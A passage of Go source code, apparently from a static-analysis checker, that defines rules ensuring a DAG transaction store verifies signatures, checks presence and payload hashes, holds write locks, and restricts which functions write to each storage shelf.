	r.Gate(Gate{ID: "C06.keys.found-in-a-referenced-version", Fn: kr, Effect: ReturnsNonNil(0), Check: ErrCheck(Fn(dag, "", "resolvePublicKey"))})

	// --- C06.add
	add := p.Func(dag, "state", "Add")
	kvWrite := Fn(stoabsPkg, "KVStore", "Write")
	kvRead := Fn(stoabsPkg, "KVStore", "Read")
	r.Gate(Gate{ID: "C06.add.verified-before-write", Fn: add, Effect: CallEffect(kvWrite), Check: ErrCheck(kvRead)})
	readCl := one(anonCalling(add, Fn(dag, "state", "verifyTX")))
	r.Gate(Gate{ID: "C06.add.read-closure", Fn: readCl, Effect: SuccessReturn(), Check: ErrCheck(Fn(dag, "state", "verifyTX")),
		Alt: []Check{CallCheck(Fn(dag, "dag", "isPresent"), -1, IsTrue)}})
	// `present` true => return before Write
	r.Gate(Gate{ID: "C06.add.present-returns", Fn: add, Effect: CallEffect(kvWrite),
		Check: Check{Desc: "present == false", Pass: IsFalse, Values: CellLoadsStoredFrom(Fn(dag, "dag", "isPresent"), 0)}})
	writeCl := one(anonCalling(add, Fn(dag, "dag", "add")))
	gadd := Fn(dag, "dag", "add")
	r.Gate(Gate{ID: "C06.add.recheck-present", Fn: writeCl, Effect: AnyEffect(CallEffect(gadd), CallEffect(Fn(dag, "PayloadStore", "writePayload")), CallEffect(Fn(dag, "state", "saveEvent")), CallEffect(Fn(dag, "state", "updateState"))),
		Check: CallCheck(Fn(dag, "dag", "isPresent"), -1, IsFalse)})
	r.Gate(Gate{ID: "C06.add.payload-hash", Fn: writeCl, Effect: CallEffect(Fn(dag, "PayloadStore", "writePayload")),
		Check: CallCheck(Fn("crypto/hash", "SHA256Hash", "Equals"), -1, IsTrue)})
	r.Gate(Gate{ID: "C06.add.payload-hash-or-nil", Fn: writeCl, Effect: SuccessReturn(),
		Check: CallCheck(Fn("crypto/hash", "SHA256Hash", "Equals"), -1, IsTrue), Alt: []Check{CmpCheck("payload == nil", token.EQL, ParamV("payload"), NilV(), true), CallCheck(Fn(dag, "dag", "isPresent"), -1, IsTrue)}})
	r.Gate(Gate{ID: "C06.add.graph-add-gates-success", Fn: writeCl, Effect: SuccessReturn(), Check: ErrCheck(gadd),
		Alt: []Check{CallCheck(Fn(dag, "dag", "isPresent"), -1, IsTrue)}})
	r.CallHasOption(OptionSpec{ID: "C06.add.writelock", Fn: add, Call: kvWrite, Option: Fn(stoabsPkg, "", "WithWriteLock"), Min: 1})
	r.CallHasOption(OptionSpec{ID: "C06.writepayload.writelock", Fn: p.Func(dag, "state", "WritePayload"), Call: kvWrite, Option: Fn(stoabsPkg, "", "WithWriteLock"), Min: 1})

	// addSingle
	as := p.Func(dag, "dag", "addSingle")
	put := Fn(stoabsPkg, "Writer", "Put")
	r.Gate(Gate{ID: "C06.addsingle.exists", Fn: as, Effect: CallEffect(put), Check: CallCheck(Fn(dag, "", "exists"), -1, IsFalse)})
	r.Gate(Gate{ID: "C06.addsingle.root-unique", Fn: as, Effect: CallEffect(put),
		Check: CmpCheck("getRoots(lc) == nil", token.EQL, CallV(Fn(dag, "", "getRoots"), -1), NilV(), true),
		Alt:   []Check{CmpCheck("len(Previous()) == 0 is false", token.EQL, LenV(AnyV()), IntV(0), false)}})
	if cs, ok := p.ConstValue(dag, "clockShelf"); !ok {
		r.Lost("C06.addsingle.root-lookup-on-clock-shelf", "ARG", "constant clockShelf not found")
	} else {
		r.ArgIs("C06.addsingle.root-lookup-on-clock-shelf", as, Fn(dag, "", "getRoots"), 0, ShelfOfV(strings.Trim(cs, "\"")), 1)
	}
	if ts, ok := p.ConstValue(dag, "transactionsShelf"); ok {
		r.ArgIs("C06.addsingle.exists-on-transactions-shelf", as, Fn(dag, "", "exists"), 0, ShelfOfV(strings.Trim(ts, "\"")), 1)
		r.ArgIs("C06.addsingle.exists-for-this-ref", as, Fn(dag, "", "exists"), 1, CallV(Fn(dag, "Transaction", "Ref"), -1), 1)
	}
	r.Gate(Gate{ID: "C06.addsingle.clock-index", Fn: as, Effect: CallEffect(put), Check: ErrCheck(Fn(dag, "", "indexClockValue"))})
	r.Gate(Gate{ID: "C06.dag.add.each", Fn: p.Func(dag, "dag", "add"), Effect: SuccessReturn(), Check: ErrCheck(Fn(dag, "dag", "addSingle")), ForEach: true,
		Skip: []Check{CmpCheck("transaction == nil", token.EQL, AnyV(), NilV(), true)}})

	// --- C06.writers (OWN)
	r.Own(OwnSpec{ID: "C06.own.graph-add", Op: "call (*dag).add", Sites: p.CallSites(gadd, true), Min: 1,
		Owners: map[string]string{"(*network/dag.state).Add": "the admission write closure"}})
	r.Own(OwnSpec{ID: "C06.own.addSingle", Op: "call (*dag).addSingle", Sites: p.CallSites(Fn(dag, "dag", "addSingle"), true), Min: 1,
		Owners: map[string]string{"(*network/dag.dag).add": "only add() stores single transactions"}})
	r.Own(OwnSpec{ID: "C06.own.state-add", Op: "call State.Add (admission entry point)", Sites: p.CallSites(p.FnOrImpl(dag, "State", "Add"), true), Min: 2,
		Owners: map[string]string{
			"(*network.Network).CreateTransaction":                   "locally created, signed transaction",
			"(*network/transport/v2.protocol).handleTransactionList": "transactions received from peers",
		}})
	for _, sh := range []string{"transactionsShelf", "clockShelf", "metadataShelf", "payloadsShelf"} {
		r.Own(OwnSpec{ID: "C06.own.shelf-writer." + sh, Op: "GetShelfWriter(" + sh + ")", Sites: shelfWriterSites(p, dag, sh), Min: 1,
			Owners: shelfOwners[sh]})
	}
}

var shelfOwners = map[string]map[string]string{
	"transactionsShelf": {"(*network/dag.dag).addSingle": "stores the transaction"},
	"clockShelf":        {"(*network/dag.dag).addSingle": "root check reads through the writer", "network/dag.indexClockValue": "clock index"},
	"metadataShelf":     {"(network/dag.dag).setNumberOfTransactions": "counter", "(network/dag.dag).setHead": "head", "(network/dag.dag).setHighestClockValue": "highest clock"},
	"payloadsShelf":     {"(network/dag.payloadStore).writePayload": "payload store"},
}
